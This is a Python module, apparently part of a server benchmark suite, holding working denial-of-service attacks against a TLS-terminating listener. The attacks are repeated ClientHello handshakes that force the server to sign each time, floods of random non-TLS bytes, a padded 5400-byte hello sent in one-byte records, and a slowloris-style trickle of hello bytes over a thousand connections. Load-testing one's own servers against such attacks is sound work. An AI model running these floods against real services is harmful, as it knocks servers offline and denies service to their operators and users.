"""
Attacks on a listener that ends TLS. None of them needs a cipher: a ClientHello can be sent again
and again, and the server signs each time.
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import struct
import time
from typing import NoReturn

from benchmarks.attacks._done import Done
from benchmarks.attacks._floods import Flood

#: Handshakes at once.
AT_ONCE = 30

#: Connections at once of the attack that sends a hello byte by byte.
PIECEMEAL = 1000

#: Seconds between two bytes of each of those.
INTERVAL = 1.0

NAME = "localhost"

#: The kind of an extension that no server knows.
EMPTY = 65000


def clientHello() -> bytes:
    """
    Return what a client sends first.
    """
    context = ssl.create_default_context()
    into, outOf = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, outOf, server_hostname=NAME).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outOf.read()


def longHello() -> bytes:
    """
    Return a ClientHello of 5400 bytes, most of them an extension that means nothing, in records of
    one byte each.
    """
    message = clientHello()[5:]
    padding = 5400 - len(message) - 4
    # The extensions come last, and their length stands before them.
    at = 38 + 1 + message[38]
    at += 2 + int.from_bytes(message[at : at + 2], "big")
    at += 1 + message[at]
    rest = message[at + 2 :] + struct.pack(">HH", EMPTY, padding) + bytes(padding)
    body = message[4:at] + struct.pack(">H", len(rest)) + rest
    whole = b"\1" + len(body).to_bytes(3, "big") + body
    return b"".join(b"\x16\x03\x01\0\1" + bytes((each,)) for each in whole)


class Messages(Flood):
    """
    Connections that each send something, and are reset when the server has answered.

    @param message: what they send; by default 2000 random bytes each.
    """

    def __init__(
        self, done: Done, address: tuple[str, int], what: str, message: bytes = b""
    ) -> None:
        super().__init__(done, address, AT_ONCE, what)
        self._message = message

    events = select.EPOLLIN | select.EPOLLOUT | select.EPOLLET

    def writable(self, sock: socket.socket) -> None:
        """
        See L{Flood.writable}.
        """
        sock.send(self._message or os.urandom(2000))

    def readable(self, sock: socket.socket, data: bytes) -> bool:
        """
        See L{Flood.readable}.
        """
        return False


class Piecemeal(Flood):
    """
    Connections that each send a ClientHello, a byte now and then.
    """

    def __init__(self, done: Done, address: tuple[str, int]) -> None:
        super().__init__(done, address, PIECEMEAL, "connections")
        self._hello = clientHello()
        self._sent: dict[socket.socket, int] = {}

    def opened(self, sock: socket.socket) -> None:
        """
        See L{Flood.opened}.
        """
        self._sent[sock] = 0

    def forget(self, sock: socket.socket) -> None:
        """
        See L{Flood.forget}.
        """
        del self._sent[sock]

    def run(self) -> NoReturn:
        """
        See L{Flood.run}.
        """
        while True:
            until = time.monotonic() + INTERVAL
            self._turn(until)
            for sock, sent in list(self._sent.items()):
                try:
                    sock.send(self._hello[sent : sent + 1])
                except OSError:
                    continue
                self._sent[sock] = sent + 1
                self.done.happened("bytes")

    def _turn(self, until: float) -> None:
        while time.monotonic() < until:
            self.turn()


def handshakes(done: Done, host: str, port: str) -> NoReturn:
    """
    Have the server sign, and go on to the next.
    """
    Messages(done, (host, int(port)), "handshakes", clientHello()).run()


def garbage(done: Done, host: str, port: str) -> NoReturn:
    """
    Send bytes that are no TLS.
    """
    Messages(done, (host, int(port)), "connections").run()


def records(done: Done, host: str, port: str) -> NoReturn:
    """
    Send a ClientHello in as many records as it may have.
    """
    Messages(done, (host, int(port)), "hellos", longHello()).run()


def piecemeal(done: Done, host: str, port: str) -> NoReturn:
    """
    See L{Piecemeal}.
    """
    Piecemeal(done, (host, int(port))).run()
